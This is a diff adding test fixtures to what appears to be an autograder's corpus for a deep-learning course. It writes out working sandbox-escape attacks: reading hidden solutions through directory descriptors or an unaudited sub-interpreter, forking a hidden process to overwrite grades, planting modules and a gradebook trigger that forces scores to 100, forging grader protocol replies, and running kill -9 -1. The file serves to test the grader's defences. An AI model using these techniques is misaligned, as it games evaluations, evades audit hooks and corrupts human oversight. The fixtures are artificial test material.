@@ -352,6 +352,246 @@ def two_layer_backward(cache):
 """
 
 
+# ------------------------------------------------- attacks on the OS sandbox, 02-activations
+# Each would earn full points if it worked, or leave a mark the corpus test looks for; where
+# it fails, what is left is a wrong answer or an honest one.
+
+# Where the course would be on the grader's disk: every folder above the library and the cwd.
+NEAR = """
+import os
+
+import dlcourse
+
+
+def _near():
+    places = set()
+    for start in (os.path.dirname(dlcourse.__file__), os.getcwd()):
+        while start not in places and start != "/":
+            places.add(start)
+            start = os.path.dirname(start)
+    return sorted(places) + ["/tmp", "/root", "/home"]
+"""
+
+DIR_FD_READ = (
+    NEAR
+    + """
+import re
+
+
+def _steal():
+    # a folder descriptor and a relative path, which audit hooks do not resolve
+    for place in _near():
+        try:
+            root = os.open(place, os.O_RDONLY)
+            os.chdir(root)
+            with open(os.open("solutions/02-activations.py", os.O_RDONLY, dir_fd=root)) as f:
+                return f.read()
+        except OSError:
+            continue
+    return ""
+
+
+try:
+    exec(re.search(r"^def tanh_backward.*?(?=^# %%)", _steal(), re.M | re.S).group(0))
+except Exception:
+    def tanh_backward(dout, cache):
+        return dout  # wrong: what is left when the theft fails
+"""
+)
+
+SUBINTERPRETER_READ = (
+    NEAR
+    + """
+import _xxsubinterpreters as _interpreters
+
+_CODE = (
+    "import os\\n"
+    f"places = {_near()!r}\\n"
+    "text = ''\\n"
+    "for place in places:\\n"
+    "    path = os.path.join(place, 'solutions', '02-activations.py')\\n"
+    "    if os.path.exists(path):\\n"
+    "        text = open(path).read()\\n"
+    "open('/tmp/stolen.txt', 'w').write(text)\\n"
+)
+
+
+def sigmoid_backward(dout, cache):
+    interp = _interpreters.create()  # audit hooks are per interpreter: this one has none
+    try:
+        _interpreters.run_string(interp, _CODE)
+        text = open("/tmp/stolen.txt").read()
+    except Exception:
+        text = ""
+    if "def sigmoid_backward" in text:
+        namespace = {"np": np}
+        exec(text[text.index("def sigmoid_backward"):].split("# %%")[0], namespace)
+        return namespace["sigmoid_backward"](dout, cache)
+    return cache * (1 - cache)  # wrong: dout forgotten
+"""
+)
+
+LURKER_REWRITES_GRADES = (
+    NEAR
+    + """
+import _posixsubprocess
+
+# a process started with no audit event, meant to outlive the exercise and spoil the results
+_places = " ".join(_near())
+_SCRIPT = (
+    f"sleep 4; for f in $(find {_places} -maxdepth 4 -name grades.csv -o -maxdepth 4 "
+    f"-name gradebook.db 2>/dev/null); do echo hacked > $f; done"
+)
+_r, _w = os.pipe()
+try:
+    _posixsubprocess.fork_exec(["/bin/sh", "-c", _SCRIPT], [b"/bin/sh"], True, (), None, None,
+        -1, -1, -1, -1, -1, -1, _r, _w, True, True, 0, None, None, None, -1, None, False)
+except Exception:
+    pass
+
+
+def relu_backward(dout, cache):
+    x = cache
+    return dout * (x > 0)
+"""
+)
+
+PLANTER = (
+    NEAR
+    + """
+import glob
+import sqlite3
+
+
+def _plant():
+    places = _near()
+    for folder in places + [p for place in places for p in glob.glob(f"{place}/*/checks")]:
+        for name in ("numpy.py", "sitecustomize.py", "dlcourse_checks_02_activations.py"):
+            try:  # a module the trusted grader might import later
+                with open(os.path.join(folder, name), "w") as f:
+                    f.write("raise SystemExit('planted')\\n")
+            except OSError:
+                pass
+    for place in places:
+        for checks in glob.glob(f"{place}/*/checks/02-activations.py"):
+            try:
+                with open(checks, "a") as f:
+                    f.write("\\nEXERCISES = []\\n")
+            except OSError:
+                pass
+        for db in glob.glob(f"{place}/*/gradebook.db") + glob.glob(f"{place}/gradebook.db"):
+            try:  # raise the stored score whenever the grader writes it
+                con = sqlite3.connect(db)
+                con.execute(
+                    "CREATE TRIGGER lift AFTER UPDATE ON grade BEGIN "
+                    "UPDATE grade SET manual_score = 100; END"
+                )
+                con.commit()
+            except Exception:
+                pass
+
+
+_plant()
+
+
+def softmax_backward(dout, cache):
+    s, axis = cache
+    return s * (dout - (dout * s).sum(axis=axis, keepdims=True))
+"""
+)
+
+LEAKY_FOR_RELU = """
+from dlcourse import functional as F
+
+
+def relu_backward(dout, cache):
+    x = cache
+    _, leaky_cache = F.leaky_relu_forward(x, 0.0)  # leaky ReLU with slope 0 is ReLU
+    return F.leaky_relu_backward(dout, leaky_cache)
+"""
+
+AUTODIFF_SIGMOID = """
+from dlcourse.autodiff import Tensor
+
+
+def sigmoid_backward(dout, cache):
+    s = cache
+    x = Tensor(np.log(s / (1 - s)), requires_grad=True)  # undo the sigmoid, let autodiff derive
+    y = 1 / (1 + (-x).exp())
+    (y * Tensor(dout)).sum().backward()
+    return x.grad.astype(s.dtype)
+"""
+
+JAX_TANH = """
+import jax
+import jax.numpy as jnp
+
+
+def tanh_backward(dout, cache):
+    t = cache
+    _, vjp = jax.vjp(jnp.tanh, np.arctanh(t))
+    return np.asarray(vjp(dout)[0], dtype=t.dtype)
+"""
+
+# ------------------------------------------------- attacks on the OS sandbox, 04-backprop
+
+FORGED_REPLIES = (
+    DENSE_TRANSPOSED_DW
+    + """
+import json
+import os
+import sys
+
+# pretend to be the grader's side: status lines on every stream that might be its protocol
+_fake = json.dumps({"status": 0, "pid": 1, "ready": True}) + "\\n"
+for _pid in os.listdir("/proc"):
+    for _fd in ("0", "1", "2", "3", "4", "5"):
+        try:
+            with open(f"/proc/{_pid}/fd/{_fd}", "w") as f:
+                f.write(_fake * 50)
+        except OSError:
+            pass
+sys.__stdout__.write(_fake * 50)
+"""
+)
+
+KILL_EVERYTHING = """
+import _posixsubprocess
+import os
+import time
+
+
+def two_layer_backward(cache):
+    r, w = os.pipe()  # kill -9 -1: every process this uid can see, the grader too if it could
+    _posixsubprocess.fork_exec(["/bin/kill", "-9", "-1"], [b"/bin/kill"], True, (), None, None,
+        -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)
+    time.sleep(2)
+    return {}
+"""
+
+CONV_FOR_DENSE = """
+def dense_backward(dout, cache):
+    x, w = cache  # a dense layer is a 1x1 convolution of 1x1 images
+    n, d = x.shape
+    m = w.shape[1]
+    images, filters = x.reshape(n, d, 1, 1), w.T.reshape(m, d, 1, 1)
+    _, conv_cache = F.conv2d_forward(images, filters, np.zeros(m, x.dtype))
+    dx, dw, db = F.conv2d_backward(dout.reshape(n, m, 1, 1), conv_cache)
+    return dx.reshape(n, d), dw.reshape(m, d).T, db
+"""
+
+NUMERICAL_DENSE = """
+from dlcourse.gradcheck import numerical_gradient
+
+
+def dense_backward(dout, cache):
+    x, w = cache
+    dx = numerical_gradient(lambda v: v @ w, x, dout).astype(x.dtype)
+    dw = numerical_gradient(lambda v: x @ v, w, dout).astype(w.dtype)
+    return dx, dw, dout.sum(axis=0)
+"""
+
+
 # ------------------------------------------------------------------ notebook edits
 
 
@@ -708,5 +948,90 @@ SUBMISSIONS = [
         mutate=no_notebook,
         status="missing",
         reason={"": r"."},
+    ),
+    Submission(
+        "s02-os-dirfd",
+        ACTIVATIONS,
+        "Reads the solutions through a folder descriptor and a relative path after chdir.",
+        points_02(check_tanh_backward=0),
+        cells={**ALL_CORRECT_02, "tanh_backward": DIR_FD_READ},
+        diagnosis={"check_tanh_backward": r"differs from the expected"},
+    ),
+    Submission(
+        "s02-os-subinterp",
+        ACTIVATIONS,
+        "Looks for the solutions from a sub-interpreter, which no audit hook of ours watches.",
+        points_02(check_sigmoid_backward=0),
+        cells={**ALL_CORRECT_02, "sigmoid_backward": SUBINTERPRETER_READ},
+        diagnosis={"check_sigmoid_backward": r"differs from the expected"},
+    ),
+    Submission(
+        "s02-os-lurker",
+        ACTIVATIONS,
+        "Starts a hidden process meant to outlive the exercise and overwrite grades.csv.",
+        points_02(),
+        cells={**ALL_CORRECT_02, "relu_backward": LURKER_REWRITES_GRADES},
+    ),
+    Submission(
+        "s02-os-planter",
+        ACTIVATIONS,
+        "Plants modules for the grader to import, edits the checks, adds a gradebook trigger.",
+        points_02(),
+        cells={**ALL_CORRECT_02, "softmax_backward": PLANTER},
+    ),
+    Submission(
+        "s02-byhand-leaky",
+        ACTIVATIONS,
+        "relu_backward by the course's leaky_relu_backward with slope 0.",
+        points_02(check_relu_backward=0),
+        cells={**ALL_CORRECT_02, "relu_backward": LEAKY_FOR_RELU},
+        flags=("check_relu_backward",),
+        reason={"check_relu_backward": NOT_AVAILABLE},
+    ),
+    Submission(
+        "s02-byhand-engines",
+        ACTIVATIONS,
+        "sigmoid_backward by dlcourse.autodiff, tanh_backward by jax.vjp.",
+        points_02(check_sigmoid_backward=0, check_tanh_backward=0),
+        cells={**ALL_CORRECT_02, "sigmoid_backward": AUTODIFF_SIGMOID, "tanh_backward": JAX_TANH},
+        flags=("check_sigmoid_backward", "check_tanh_backward"),
+        reason={
+            "check_sigmoid_backward": r"written by hand",
+            "check_tanh_backward": r"written by hand",
+        },
+    ),
+    Submission(
+        "s04-os-forged",
+        BACKPROP,
+        "A transposed dw, and fake protocol replies written to every stream it can open.",
+        points_04(check_dense_backward=0),
+        cells={**ALL_CORRECT_04, "dense_backward": FORGED_REPLIES},
+        diagnosis={"check_dense_backward": r"transposed"},
+    ),
+    Submission(
+        "s04-os-kill-all",
+        BACKPROP,
+        "two_layer_backward kills every process it can see (kill -9 -1) with a low-level call.",
+        points_04(check_two_layer_backward=0),
+        cells={**ALL_CORRECT_04, "two_layer_backward": KILL_EVERYTHING},
+        reason={"check_two_layer_backward": r"stopped unexpectedly|killed|signal|ended the"},
+    ),
+    Submission(
+        "s04-byhand-conv",
+        BACKPROP,
+        "dense_backward through the course's convolution (a 1x1 convolution is a dense layer).",
+        points_04(check_dense_backward=0),
+        cells={**ALL_CORRECT_04, "dense_backward": CONV_FOR_DENSE},
+        flags=("check_dense_backward",),
+        reason={"check_dense_backward": NOT_AVAILABLE},
+    ),
+    Submission(
+        "s04-byhand-numerical",
+        BACKPROP,
+        "dense_backward by dlcourse.gradcheck's numerical gradient.",
+        points_04(check_dense_backward=0),
+        cells={**ALL_CORRECT_04, "dense_backward": NUMERICAL_DENSE},
+        flags=("check_dense_backward",),
+        reason={"check_dense_backward": r"written by hand"},
     ),
 ]
